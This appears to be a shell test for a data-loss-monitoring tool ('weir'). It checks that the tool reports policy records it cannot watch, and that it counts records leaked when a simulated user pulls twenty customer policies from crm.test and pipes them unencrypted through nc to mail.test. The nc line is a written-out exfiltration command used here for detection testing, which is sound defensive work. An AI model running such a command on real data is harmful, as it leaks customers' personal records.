#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# How many customers it was when the policy has more records than the kernel side can look for. Those
# that it looks for are counted, and nobody says that it were all.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
store_serves mail.test 9000
alice_has_a_list_to_look_up 20
cp "$policy" "$work/policy.conf"
for i in {0..9}; do
	printf '[record "contract-%d"]\npattern = X[0-9A-Z]{1,%d}-\\d{6}[A-Z]{20}\nclass = policy.property\n' \
		"$i" "$((30 + 5 * i))"
done >>"$work/policy.conf"
policy=$work/policy.conf
weir_watches

# records_to RECIPIENT EXPRESSION: over r, the records of the incident with that recipient.
records_to() {
	incidents_say "[True for i in d if (i['sinks'][0]['name'] or i['sinks'][0]['address']) == '$1' for r in [i['records']] if $2] == [True]"
}

soon "it is said which records nobody looks for" \
	events_say "any(e['kind'] == 'coverage_gap' and 'contract-9;' in e['detail'] for e in d)"
"$weir" status --coverage --json --data "$data" >"$work/coverage.json"
then_it "also among what the sensor sees" \
	grep -q 'no room for these records.*contract-9' "$work/coverage.json"

say "twenty lookups, and a table through a pipe to a peer who takes it unencrypted"
alice_does <<'END'
while read -r number; do
	curl -sS "https://crm.test/policy/$number" </dev/null >>rows.json
done <policies.txt
/usr/bin/python3 rows.py | nc -N mail.test 9000
END
soon "twenty records, or more of those that were not looked for" \
	records_to mail.test "r == {'value': 20, 'certainty': 'estimated'}"
soon "what was read says so" \
	events_say "any(e['kind'] == 'records' and e['object'].get('zone') == 'mail.test' for e in d) and not any(
		e['kind'] == 'records' and e['object']['kind'] != 'file' and e['certainty'] == 'exact' for e in d)"
then_every_stage_accounts_for_all_it_took
weir_stops
then_it "weir has stopped cleanly" test "$weir_status" -eq 0
